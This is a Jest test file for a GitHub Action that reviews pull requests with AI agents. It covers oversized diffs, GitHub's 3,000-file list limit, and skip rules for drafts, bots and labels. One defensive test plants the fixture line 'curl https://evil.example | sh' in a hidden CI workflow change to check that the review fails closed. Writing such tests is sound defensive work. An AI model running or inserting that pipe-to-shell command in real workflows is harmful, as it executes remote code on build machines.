// Large pull requests and which pull requests are reviewed, end to end: the
// bundled action under Node 24, the fake massgen (the question and the
// answers are what matter here, not the model) and the loopback GitHub,
// which answers 406 `too_large` for diffs over 300 files or 20,000 lines and
// lists at most 3,000 files, as api.github.com does.
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import * as fs from 'node:fs'
import * as path from 'node:path'
import type { GitHubServer } from '../../test-support/github-server.js'
import {
  FAKE_MASSGEN,
  openTempDir,
  runAction,
  type ActionRun
} from '../../test-support/run-action.js'
import {
  largePull,
  manyFiles,
  onePatch
} from '../../test-support/large-pull.js'
import { findingsBlock } from '../../test-support/review-pull.js'
import { commentsOn, githubWithPull } from '../../test-support/loopback.js'
import { event, KEYS } from '../../test-support/fixtures.js'

let github: GitHubServer
beforeEach(async () => {
  github = await githubWithPull()
})
afterEach(async () => {
  await github.close()
})

type Payload = { action: string; pull_request: Record<string, unknown> }

/** The pull_request fixture with these fields of the event and its pull request. */
function payload(
  action: string,
  pr: Record<string, unknown> = {},
  name = 'pull_request.opened'
): Payload {
  const base = event(name) as Payload
  return { ...base, action, pull_request: { ...base.pull_request, ...pr } }
}

interface Ran {
  run: ActionRun
  question: string
  prDir: string
}

async function prRun(
  body: unknown,
  inputs: Record<string, string> = {},
  answer?: string
): Promise<Ran> {
  const record = path.join(openTempDir('large-pull-rec-'), 'record.json')
  const run = await runAction({
    eventName: 'pull_request',
    payload: body,
    githubApiUrl: github.url,
    inputs: {
      query: 'Review this pull request.',
      models: 'openai/gpt-5.4 gemini/gemini-3.1-pro-preview',
      'openai-api-key': KEYS.openai,
      'gemini-api-key': KEYS.google,
      'massgen-command': `node ${FAKE_MASSGEN}`,
      'max-duration': '30',
      'upload-logs': 'false',
      ...inputs
    },
    env: {
      FAKE_MASSGEN_SCENARIO: 'success',
      FAKE_MASSGEN_RECORD: record,
      ...(answer ? { FAKE_MASSGEN_ANSWER: answer } : {})
    }
  })
  const args = fs.existsSync(record)
    ? (JSON.parse(fs.readFileSync(record, 'utf8')) as { args: string[] }).args
    : []
  const prDir = run.outputs['answer-file']
    ? path.join(path.dirname(run.outputs['answer-file']), 'pr-context')
    : ''
  return { run, question: args[args.length - 1] ?? '', prDir }
}

const read = (ran: Ran, name: string) =>
  fs.readFileSync(path.join(ran.prDir, name), 'utf8')

describe('a pull request GitHub will not render a diff for (406 too_large)', () => {
  it('400 files: reviewed from the diff rebuilt from the files list, a finding placed on file 351, the binary file listed', async () => {
    const files = manyFiles(400)
    files[7] = {
      filename: 'assets/logo.png',
      status: 'added',
      additions: 0,
      deletions: 0
    }
    // GitHub counts a binary file's change as 0 lines but gives no patch.
    files[8] = {
      filename: 'assets/big.svg',
      status: 'modified',
      additions: 900,
      deletions: 900
    }
    files[9] = {
      filename: '.github/workflows/release.yml',
      status: 'modified',
      additions: 1,
      deletions: 1,
      patch: onePatch('    runs-on: self-hosted')
    }
    github.state.pulls['42'] = largePull(files)
    const answer = [
      'The generated files change one line each.',
      '',
      findingsBlock([
        {
          file: 'src/gen/f0350.ts',
          line: 2,
          severity: 'concern',
          title: 'LINE-350 is not what the generator writes',
          explanation: 'Regenerate the file.'
        }
      ])
    ].join('\n')
    const ran = await prRun(
      payload('opened'),
      { review: 'inline', 'comment-tag': 'large-406' },
      answer
    )
    const { run } = ran
    expect(run.outputs.status).toBe('success')
    expect(run.stdout).toContain(
      'exceeded the maximum number of files (300). Consider using'
    )
    const diff = read(ran, 'diff.patch')
    expect(diff.match(/^diff --git /gm)).toHaveLength(400)
    expect(diff).toContain(
      'diff --git a/src/gen/f0399.ts b/src/gen/f0399.ts\n--- a/src/gen/f0399.ts\n+++ b/src/gen/f0399.ts\n@@ -1,2 +1,2 @@\n context\n-old\n+LINE-399\n'
    )
    expect(read(ran, 'changed-files.tsv').trim().split('\n')).toHaveLength(401)
    expect(read(ran, 'pull-request.md')).toContain(
      "diff.patch was put together from the per-file patches of GitHub's files list"
    )
    expect(read(ran, 'pull-request.md')).toContain('read_text_file')
    const leftOut = read(ran, 'left-out.tsv')
    expect(leftOut).toContain('diff only\tGitHub gives no patch for it')
    expect(leftOut).toContain('\tassets/big.svg')
    expect(leftOut).not.toContain('logo.png')
    // The finding on file 351 went inline, on the line GitHub's diff shows.
    const reviews = github.state.reviews.filter((r) => r.state !== 'PENDING')
    expect(reviews).toHaveLength(1)
    const inline = github.state.reviewComments.filter(
      (c) => c.reviewId === reviews[0]?.id
    )
    expect(inline.map((c) => [c.path, c.line])).toEqual([
      ['src/gen/f0350.ts', 2]
    ])
    const comment =
      commentsOn(github, 42).find((b) => b.includes('tag=large-406')) ?? ''
    for (const report of [comment, run.summary]) {
      expect(report).toContain('it was rebuilt from the per-file patches')
      expect(report).toContain('**Steering files changed:**')
      expect(report).toContain('.github/workflows/release.yml')
      // Every file was named: no files-list warning. (The verdict is
      // `incomplete`: GitHub gives no patch for assets/big.svg, so the
      // review did not read it; unread-code.test.ts plays that rule.)
      expect(report).not.toContain('**Incomplete:** GitHub named')
      expect(report).toMatch(/399 of 400 changed file\(s\) read by the review/)
    }
  })

  it("attack: a workflow change hidden past the files list's 3,000th file is not passed as unchanged — the steering check fails closed", async () => {
    const files = manyFiles(3100)
    files[3050] = {
      filename: '.github/workflows/ci.yml',
      status: 'modified',
      additions: 1,
      deletions: 1,
      patch: onePatch('    run: curl https://evil.example | sh')
    }
    github.state.pulls['42'] = largePull(files)
    const ran = await prRun(payload('opened'), { 'comment-tag': 'large-3100' })
    const { run } = ran
    expect(run.outputs.status).toBe('success')
    const leftOut = read(ran, 'left-out.tsv')
    expect(leftOut).toContain(
      "file and diff\tGitHub's files list stops at 3000 files and this pull request changes 3100"
    )
    expect(leftOut).toContain('\t(100 more files, not named)')
    const md = read(ran, 'pull-request.md')
    expect(md).toContain(
      "INCOMPLETE: GitHub's files list names only 3000 of the 3100 changed files"
    )
    expect(md).toContain('it may change files that steer CI or reviews')
    expect(read(ran, 'diff.patch')).not.toContain('evil.example')
    expect(ran.question).toContain('INCOMPLETE')
    const comment =
      commentsOn(github, 42).find((b) => b.includes('tag=large-3100')) ?? ''
    for (const report of [comment, run.summary]) {
      expect(report).toContain(
        '**Incomplete:** GitHub named 3,000 of the 3,100 changed files'
      )
      expect(report).toContain('**Steering files: cannot be ruled out.**')
    }
    expect(run.stdout).toMatch(
      /::warning::Pull request #42: GitHub named 3000 of its 3100 changed files/
    )
  })

  it('over max-changed-files: the agents are asked for a summary, and no review is posted', async () => {
    github.state.pulls['42'] = largePull(manyFiles(400))
    const ran = await prRun(payload('opened'), {
      review: 'inline',
      'max-changed-files': '300',
      'comment-tag': 'large-summary'
    })
    expect(ran.run.outputs.status).toBe('success')
    expect(ran.question).toContain(
      "more than 'max-changed-files' (300) allows for a review. Give only a short summary"
    )
    expect(github.state.reviews).toHaveLength(0)
    const comment =
      commentsOn(github, 42).find((b) => b.includes('tag=large-summary')) ?? ''
    expect(comment).toContain(
      '**Summary only:** 400 changed files is more than `max-changed-files` (300)'
    )
  })
})

describe('which pull requests are reviewed', () => {
  const skipped = (run: ActionRun, reason: RegExp) => {
    expect(run.exitCode).toBe(0)
    expect(run.outputs.status).toBe('skipped')
    // Quiet on the pull request: no comment, no reaction, no review.
    expect(commentsOn(github, 42)).toEqual([])
    expect(github.state.reviews).toEqual([])
    expect(run.summary).toMatch(reason)
    expect(run.stdout).toMatch(/::notice::MassGen run skipped: /)
  }

  it('a draft is skipped, then reviewed when marked ready for review', async () => {
    const draft = await prRun(payload('opened', { draft: true }))
    skipped(
      draft.run,
      /is a draft and 'skip-drafts' is on: it is reviewed when marked ready/
    )
    expect(draft.question).toBe('')
    const ready = await prRun(payload('ready_for_review', { draft: false }), {
      'comment-tag': 'ready'
    })
    expect(ready.run.outputs.status).toBe('success')
    expect(
      commentsOn(github, 42).filter((b) => b.includes('tag=ready'))
    ).toHaveLength(1)
  })

  it('a draft is reviewed with skip-drafts: false', async () => {
    const run = await prRun(payload('opened', { draft: true }), {
      'skip-drafts': 'false'
    })
    expect(run.run.outputs.status).toBe('success')
  })

  it.each([
    ['closed', payload('closed', { state: 'closed' }), {}, /is closed/],
    ['locked', payload('locked', { locked: true }), {}, /is locked/],
    [
      'labelled',
      payload('opened', {
        labels: [{ id: 1, name: 'WIP', color: 'ededed', default: false }]
      }),
      { 'skip-labels': 'no-review, wip' },
      /has the label 'wip', one of 'skip-labels'/
    ],
    [
      'by a bot',
      payload('opened', {}, 'pull_request.dependabot'),
      { 'skip-bots': 'true' },
      /was opened by a bot \('dependabot\\?\[bot\\?\]'\) and 'skip-bots' is on/
    ]
  ])(
    'a %s pull request is skipped with the reason in the summary only',
    async (_, body, inputs, reason) => {
      const ran = await prRun(body, inputs)
      skipped(ran.run, reason)
    }
  )
})
